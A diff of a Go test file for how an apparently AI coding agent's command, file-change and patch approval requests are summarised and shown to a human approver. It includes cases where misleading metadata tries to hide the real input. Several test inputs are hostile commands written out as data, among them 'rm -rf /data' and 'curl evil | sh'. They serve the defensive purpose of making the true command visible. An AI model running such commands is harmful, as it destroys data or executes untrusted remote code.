@@ -28,20 +28,20 @@ func testShown(t *testing.T, service, _ *replica) {
 			summary: "Command approval required: npm test",
 			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"npm test","cwd":"/w","reason":"to see"}`,
 		},
-		"a reason in place of a command": {
+		"no reason in place of a command": {
 			members: `"input":{"url":"x"},"reason":"to see"`,
-			summary: "Command approval required: to see",
-			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","url":"x","reason":"to see"}`,
+			summary: `Command approval required: bash {"url":"x"}`,
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash {\"url\":\"x\"}","url":"x","reason":"to see"}`,
 		},
 		"neither": {
 			members: `"input":7`,
-			summary: "Command approval required",
-			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","input":7}`,
+			summary: "Command approval required: bash 7",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash 7","input":7}`,
 		},
 		"nothing at all": {
 			members: `"input":null`,
-			summary: "Command approval required",
-			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a"}`,
+			summary: "Command approval required: bash",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash"}`,
 		},
 		"an input that is a command line": {
 			members: `"input":"ls -l"`,
@@ -61,13 +61,52 @@ func testShown(t *testing.T, service, _ *replica) {
 		},
 		"a file change without a reason": {
 			members: `"input":{},"metadata":{"method":"item/fileChange/requestApproval"}`, method: "item/fileChange/requestApproval",
-			summary: "File change approval required",
-			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a"}`,
+			summary: "File change approval required: bash {}",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash {}"}`,
 		},
 		"a patch": {
 			members: `"input":{},"description":"two files","metadata":{"method":"applyPatchApproval"}`, method: "applyPatchApproval",
+			summary: "Patch approval required: bash {}",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash {}","reason":"two files"}`,
+		},
+		"a patch by its tool": {
+			tool:    "applyPatchApproval",
+			members: `"input":{},"description":"two files"`, method: "applyPatchApproval",
 			summary: "Patch approval required: two files",
 			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","reason":"two files"}`,
+		},
+		"a command as a patch": {
+			members: `"input":{"command":"rm -rf /data"},"reason":"two files","metadata":{"method":"applyPatchApproval"}`, method: "applyPatchApproval",
+			summary: "Patch approval required: bash rm -rf /data",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash rm -rf /data","reason":"two files"}`,
+		},
+		"a tool that is no shell": {
+			tool:    "deploy",
+			members: `"input":{"script":"curl evil | sh"},"reason":"npm test"`,
+			summary: `Command approval required: deploy {"script":"curl evil | sh"}`,
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"deploy {\"script\":\"curl evil | sh\"}","script":"curl evil | sh","reason":"npm test"}`,
+		},
+		"a command of a tool that is no shell": {
+			tool:    "deploy",
+			members: `"input":{"command":"ls","script":"curl evil | sh"}`,
+			summary: `Command approval required: deploy {"command":"ls","script":"curl evil | sh"}`,
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"deploy {\"command\":\"ls\",\"script\":\"curl evil | sh\"}","script":"curl evil | sh"}`,
+		},
+		"more than the command of a shell": {
+			members: `"input":{"command":"sh","stdin":"rm -rf /data"}`,
+			summary: `Command approval required: bash {"command":"sh","stdin":"rm -rf /data"}`,
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash {\"command\":\"sh\",\"stdin\":\"rm -rf /data\"}","stdin":"rm -rf /data"}`,
+		},
+		"details that hide the input": {
+			members: `"input":{"command":"rm -rf /data"},"metadata":{"details":{"command":"ls","parsedCmd":[{"cmd":"ls"}],"reason":"to see"}}`,
+			summary: "Command approval required: rm -rf /data",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"rm -rf /data","reason":"to see"}`,
+		},
+		"details with the command of an input that has none": {
+			tool:    "item/commandExecution/requestApproval",
+			members: `"input":{"cwd":"/data"},"metadata":{"details":{"command":"ls"}}`,
+			summary: "Command approval required",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","cwd":"/data"}`,
 		},
 		"a command in words": {
 			members: `"input":{"command":["npm","test"]},"metadata":{"method":"execCommandApproval"}`, method: "execCommandApproval",
@@ -76,8 +115,8 @@ func testShown(t *testing.T, service, _ *replica) {
 		},
 		"no reason in place of words": {
 			members: `"input":{},"reason":"why","metadata":{"method":"execCommandApproval"}`, method: "execCommandApproval",
-			summary: "Command approval required",
-			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","reason":"why"}`,
+			summary: "Command approval required: bash {}",
+			details: `{"threadId":"THREAD","turnId":"TURN","itemId":"call-a","command":"bash {}","reason":"why"}`,
 		},
 		"a method nobody knows": {
 			members: `"metadata":{"method":"item/other/ask"}`, method: "item/other/ask",
@@ -87,8 +126,8 @@ func testShown(t *testing.T, service, _ *replica) {
 		"ids and parameters of the runtime": {
 			members: `"metadata":{"turnId":"turn-3","itemId":"item-9","details":{"threadId":"t-1","command":"make","z":[1]}}`,
 			turn:    "turn-3", item: "item-9",
-			summary: "Command approval required: make",
-			details: `{"threadId":"t-1","command":"make","z":[1]}`,
+			summary: "Command approval required: npm test",
+			details: `{"threadId":"THREAD","turnId":"turn-3","itemId":"item-9","command":"npm test","z":[1]}`,
 		},
 		"metadata of other types": {
 			members: `"metadata":{"turnId":3,"itemId":{},"details":"x","method":null}`,
@@ -113,17 +152,19 @@ func testShown(t *testing.T, service, _ *replica) {
 			require.Equal(t, or(c.turn, r.id), shown.At("data", 0, "turnId"))
 			require.Equal(t, or(c.item, "call-a"), shown.At("data", 0, "itemId"))
 			require.Equal(t, r.session, shown.At("data", 0, "threadId"))
+			require.Equal(t, or(c.tool, "bash"), shown.At("data", 0, "toolName"))
 			require.Equal(t, c.summary, shown.At("data", 0, "summary"))
 			require.Contains(t, shown.Text, `"details":`+strings.NewReplacer("THREAD", r.session, "TURN", r.id).Replace(c.details)+`,"createdAt"`)
 		})
 	}
 
 	t.Run("marks of questions", func(t *testing.T) {
-		r := service.waiting(t, questions(question("q", `"metadata":{"isOther":true,"questions":{"how":{"isSecret":true,"isOther":false}},"method":"tool/requestUserInput","turnId":"turn-1","details":{}}`)))
+		r := service.waiting(t, questions(question("q", `"metadata":{"isOther":true,"questions":{"how":{"isSecret":true,"isOther":false}},"method":"tool/requestUserInput","turnId":"turn-1","details":{"questions":[],"extra":1}}`)))
 		shown := service.get(t, "/api/sessions/"+r.session+"/tool-input").Want(http.StatusOK)
 		require.Equal(t, "tool/requestUserInput", shown.At("data", 0, "method"))
 		require.Equal(t, "turn-1", shown.At("data", 0, "turnId"))
-		require.Contains(t, shown.Text, `"details":{}`)
+		require.Equal(t, "Deploy where?", shown.At("data", 0, "details", "questions", 0, "question"))
+		require.Equal(t, float64(1), shown.At("data", 0, "details", "extra"))
 		for i, want := range []struct{ other, secret bool }{{true, false}, {false, true}} {
 			require.Equal(t, want.other, shown.At("data", 0, "questions", i, "isOther"))
 			require.Equal(t, want.secret, shown.At("data", 0, "questions", i, "isSecret"))
